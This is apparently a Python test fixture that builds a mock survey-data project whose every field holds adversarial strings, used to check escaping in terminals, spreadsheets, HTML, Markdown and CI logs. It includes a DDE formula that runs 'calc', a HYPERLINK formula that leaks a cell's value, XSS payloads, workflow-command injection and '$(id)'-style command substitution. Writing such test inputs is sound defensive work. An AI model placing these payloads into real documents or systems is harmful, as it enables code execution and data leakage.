"""A project in which every text is one that means something to some program that may show it.

The readers refuse what no text may hold (control characters, orders to turn
the direction of writing round); everything here they let through.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

TEXTS = {
    # a terminal, Rich
    "rich": "[red]danger[/red] [bold on white]",
    "rich-close": "[/] [/red] oops",
    "rich-link": "[link=https://example.org/x]click[/link]",
    "rich-emoji": ":smile: :warning:",
    "rich-escaped": r"\[bold]not bold\\",
    "caret": r"^[[31m \x1b[31m \033]0;title\007",
    # spreadsheets
    "formula": "=1+1",
    "formula-dde": "=cmd|' /C calc'!A0",
    "formula-link": '=HYPERLINK("http://example.org?"&A1,"x")',
    "formula-plus": "+1+1",
    "formula-minus": "-1+1",
    "formula-at": "@SUM(1,1)",
    "formula-wide": "＝1+1",
    "formula-space": "  =1+1",
    "formula-odd-space": "\u00a0\u3000=1+1",
    "formula-quote": '"=1+1"',
    "formula-tab": "\t=1+1",
    "formula-line": "first\n=1+1",
    "formula-list": "first;=1+1;-2",
    "formula-apostrophe": "'=1+1",
    # HTML, XML, SVG
    "script": "</script><script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "comment": "<!-- --> ]]> <![CDATA[ <?php ?>",
    "entity": "R&amp;D &lt;b&gt; &#60;i&#62; &copy &bogus;",
    "attribute": "\" onmouseover=\"alert(1)' x='",
    "svg": "</text></title></svg><script>alert(1)</script>",
    "style": "</style></title></main></textarea>",
    "address": "javascript:alert(1)",
    "data": "data:text/html,<b>1</b>",
    # Markdown
    "pipe": "a | b || c |",
    "emphasis": "**bold** _thin_ *it* ~~gone~~ `code` ``two``",
    "link": "[x](javascript:alert(1)) ![y](https://example.org/y.png) [z]: <u>",
    "autolink": "<https://example.org/z> www.example.org",
    "heading": "# heading",
    "underline": "===",
    "rule": "---",
    "stars": "***",
    "bullet": "- a list",
    "number": "1. a list",
    "quoted": "> quoted",
    "fence": "```sh",
    "indented": "    indented code",
    "checkbox": "- [ ] a box",
    "footnote": "[^1] [^1]: foot",
    "backslash": "ends in \\",
    "block": "<div>block</div>",
    "mathematics": "$x_1$ $$y$$ \\input{z}",
    "columns": "--- | ---",
    # workflows, logs, templates, programs
    "annotation": "::error file=x,line=1::%0A%25 ::set-output name=a::b",
    "stop": "::stop-commands::token",
    "old-annotation": "##[error]gone ##vso[task]",
    "percent": "100% %s %d %(x)s %%",
    "braces": "{{ 7 * 7 }} {% raw %} {0} {id} {x!r} ${HOME} $(id) `id`",
    "vega": 'datum[\'x\'] + signal.y; {"expr": "1"}',
    "sarif": "[text](1) [text](javascript:alert(1)) {0}",
    "json": '"}],"x":[{"y":"\\u0000\\ud800',
    "none": "None",
    "nan": "NaN",
    "empty-object": "{}",
    # scripts, widths, what is hard to see
    "hebrew": "שלום (abc) 123",
    "arabic": "العربية 5%",
    "cjk": "매우 걱정된다 とても心配 非常担心",
    "devanagari": "हिन्दी में प्रश्न",
    "thai": "ประเทศไทย",
    "family": "👨\u200d👩\u200d👧 family 👍🏽 🇰🇷",
    "variation": "☀\ufe0f sun ☀\ufe0e",
    "tower": "Z" + "\u0301\u0327\u0336" * 12 + "!",
    "combining-first": "\u0301 begins",
    "zero-width": "a\u200bb\u200cc\u200dd\u2060e\u00adf",
    "marks": "a\u200e! \u200f\u061c?",
    "spaces": "a\u00a0b\u2003c\u3000d\u1680e",
    "tags": "a\U000e0041\U000e0042\U000e007fb",
    "private": "\ue000 logo \U0010fffd",
    "unassigned": "\u0378 \U000e0fff x",
    "noncharacter": "a\uffffb \ufdd0 \U0001ffff",
    "filler": "\u3164 \u115f\u1160 x",
    "replacement": "\ufffc \ufffd",
    # sizes, lines
    "line-end": "two\nlines",
    "tab": "a\tb",
    "long": "w" * 150,
    "long-cjk": "통" * 90,
    "long-address": "https://example.org/" + "a/" * 70,
}
EACH = 4  # respondents who give each answer
CHUNK = 14  # answers to each question of which figures were published


def quoted(text: str) -> str:
    """A text as YAML holds it."""
    return json.dumps(text, ensure_ascii=True) if max(text) < "\ud800" else _wide(text)


def _wide(text: str) -> str:
    """YAML has no pairs of surrogates: signs beyond them are written out."""
    return '"' + "".join(_sign(sign) for sign in text) + '"'


def _sign(sign: str) -> str:
    if sign in '"\\':
        return f"\\{sign}"
    return sign if " " <= sign <= "~" else f"\\U{ord(sign):08x}"


def local(text: str) -> str:
    """A text in English, as YAML holds it."""
    return f"{{en: {quoted(text)}}}"


def chunks(texts: dict[str, str] = TEXTS) -> list[list[str]]:
    """The texts, as many at a time as are the answers to one question."""
    values = list(texts.values())
    return [values[start : start + CHUNK] for start in range(0, len(values), CHUNK)]


def build(root: Path, texts: dict[str, str] = TEXTS) -> Path:
    """The project, in an empty folder."""
    files = {
        "questionnaires/nasty.yaml": _questionnaire(texts),
        "questionnaires/concepts.yaml": _concepts(texts),
        "questionnaires/conventions.yaml": 'conventions: {most: "> 50%"}\n',
        "datasets/nasty/findings.csv": _findings(texts),
        "datasets/nasty/claims.yaml": _claims(texts),
        "datasets/nasty/2022.responses.csv": _responses(texts, 0),
        "datasets/nasty/2023.responses.csv": _responses(texts, 1),
        "datasets/nasty/report.yaml": _report(texts),
        "margins.yaml": "margins: {sex: {man: 0.4, woman: 0.6}}\n",
    }
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, "utf-8", newline="")
    return root


def _questionnaire(texts: dict[str, str]) -> str:
    every = " ".join(texts.values())
    first, second, *_ = texts.values()
    sources = "".join(
        f"  s{place}: {{publisher: {quoted(text)}, title: {local(text)}, url: {quoted(text)},"
        f" note: {local(text)}}}\n"
        for place, text in enumerate(texts.values())
    )
    options = "".join(
        f"      o{place}: {{code: {quoted(text)}, label: {local(text)}}}\n"
        for place, text in enumerate(texts.values())
    )
    printed = "".join(_printed(texts, place, chunk) for place, chunk in enumerate(chunks(texts)))
    others = "".join(
        f"          o{place}: {{code: {quoted(text)}, label: {local('new ' + text)}}}\n"
        for place, text in enumerate(texts.values())
    )
    items = "".join(
        f"""\
  i{place}:
    text: {local(text)}
    note: {local(text)}
    asked_in: ["2020"]
    options_complete: published
    options: {{a: {local(text)}, b: {local(text + " (b)")}}}
    concept: {{id: c{place}, map: {{a: x, b: y}}}}
"""
        for place, text in enumerate(texts.values())
    )
    breaks = "".join(
        f'  - {{before: "2020", items: [i{place}], reason: {local(text)}}}\n'
        for place, text in enumerate(texts.values())
    )
    return f"""\
survey: nasty
title: {local(every)}
organisations: [{", ".join(quoted(text) for text in texts.values())}]
licence: {local(every)}
attribution: {local(every)}
url: {quoted(first)}
note: {local(every)}
sources:
{sources}\
waves:
  "2019":
    title: {local(every)}
    fieldwork: 2019-01
    published_base: all
    note: {local(every)}
    population: {{kind: general_public, universe: {local(every)}}}
    organisations: [{quoted(first)}]
    samples: {{JP: {{n: 1000, note: {local(every)}}}, KR: 1000}}
  "2020":
    fieldwork: 2020-01
    published_base: all
    organisations: [{quoted(second)}]
    samples: {{JP: 1000, KR: 1000}}
  "2022": {{fieldwork: 2022-01, {_design(texts)}, samples: {{JP: {_n(texts)}, KR: {_n(texts)}}}}}
  "2023": {{fieldwork: 2023-01, {_design(texts)}, samples: {{JP: {_n(texts)}, KR: {_n(texts)}}}}}
breaks:
  - {{before: "2020", items: [p0], reason: {local(every)}}}
{breaks}\
items:
  q:
    text: {local(every)}
    note: {local(every)}
    asked_in: ["2022", "2023"]
    options_complete: published
    options:
{options}\
    nets: {{net: {{options: [o0, o1], label: {local(every)}}}}}
    versions:
      "2023":
        text: {local("new " + every)}
        options:
{others}\
  sex:
    text: {local(every)}
    asked_in: ["2022", "2023"]
    options: {{man: {local(first)}, woman: {local(second)}}}
{printed}{items}"""


def _printed(texts: dict[str, str], place: int, chunk: list[str]) -> str:
    """A question of which figures of two waves were published; those of the first clash."""
    options = "".join(
        f"      o{number}: {{label: {local(text)}}}\n" for number, text in enumerate(chunk)
    )
    return f"""\
  p{place}:
    text: {local(" ".join(chunk))}
    asked_in: ["2019", "2020"]
    options_complete: {"incomplete" if place else "published"}
    options:
{options}\
    nets: {{net: {{options: [o0, o1], label: {local(" ".join(chunk))}}}}}
"""


def _n(texts: dict[str, str]) -> int:
    return EACH * len(texts)


def _design(texts: dict[str, str]) -> str:
    first, second, third, *_ = texts.values()
    return (
        f"design: {{respondent: id, country: country, weight: {quoted(first)}, "
        f"stratum: {quoted(second)}, psu: {quoted(third)}}}"
    )


def _concepts(texts: dict[str, str]) -> str:
    concepts = "".join(
        f"  c{place}: {{title: {local(text)}, definition: {local(text)},"
        f" categories: {{x: {local(text)}, y: {local('not ' + text)}}}}}\n"
        for place, text in enumerate(texts.values())
    )
    reasons = "".join(
        f"  - {{between: [nasty.i{place}, nasty.q], grade: C, reason: {local(text)}}}\n"
        for place, text in enumerate(texts.values())
    )
    every = " ".join(texts.values())
    judged = f"  - {{between: [nasty.q@2022, nasty.q@2023], grade: B, reason: {local(every)}}}\n"
    return f"concepts:\n{concepts}comparability:\n{reasons}{judged}"


def _findings(texts: dict[str, str]) -> str:
    rows: list[list[Any]] = [
        ["id", "wave", "country", "item", "option", "predicate", "value", "source", "quote", "note"]
    ]
    for place, text in enumerate(texts.values()):
        words = [f"s{place}", text, text]
        chunk, option = divmod(place, CHUNK)
        for country in ("JP", "KR"):
            key = f"{text}.{country}"
            share = [country, f"p{chunk}", f"o{option}", "share"]
            rows += [
                [f"a {key}", "2019", *share, "5", *words],
                [f"b {key}", "2020", *share, "6.5", *words],
            ]
        rows.append([f"c {text}", "2020", "JP", f"i{place}", "a", "share", "60", *words])
        rows.append([f"d {text}", "2020", "JP", f"i{place}", "", "loose", text, *words])
    return written(rows)


def _claims(texts: dict[str, str]) -> str:
    claims = "".join(
        f"""\
  - id: {quoted(text)}
    source: s{place}
    quote: {quoted(text)}
    wave: "2020"
    item: i{place}
    countries: [JP]
    says: [{{minority: a}}, {{loose: {quoted(text)}}}]
    {"expect: contradicted" if place % 2 else ""}
    reason: {local(text)}
    note: {local(text)}
"""
        for place, text in enumerate(texts.values())
    )
    acknowledged = "".join(
        f"  - {{code: sum-not-100, place: {quoted(text)}, reason: {local(text)}}}\n"
        for text in texts.values()
    )
    return f"claims:\n{claims}acknowledged:\n{acknowledged}"


def _responses(texts: dict[str, str], turn: int) -> str:
    first, second, third, *_ = texts.values()
    values = list(texts.values())
    rows: list[list[Any]] = [["id", "country", first, second, third, "sex", "q", values[-1]]]
    for country in ("JP", "KR"):
        for place, text in enumerate(values):
            for number in range(EACH):
                sex = ("man", "woman")[number % 2]
                stratum = values[(place + turn) % 2]
                unit = f"{values[place % 7]} {stratum}"
                row = [f"{country} {number} {text}", country, "1", stratum, unit, sex, text]
                rows.append([*row, text])
    return written(rows)


def _report(texts: dict[str, str]) -> str:
    every = " ".join(texts.values())
    sections = "".join(
        f"  - {{part: text, title: {local(text)}, prose: {local(text)}}}\n"
        for text in texts.values()
    )
    return f"""\
title: {local(every)}
prose: {local(every)}
sections:
{sections}  - {{compare: nasty.p0, wave: "2020", prose: {local(every)}}}
  - {{verify: nasty, title: {local(every)}}}
  - sources
"""


def written(rows: list[list[Any]]) -> str:
    """Rows as CSV."""
    stream = io.StringIO()
    csv.writer(stream, lineterminator="\n").writerows(rows)
    return stream.getvalue()
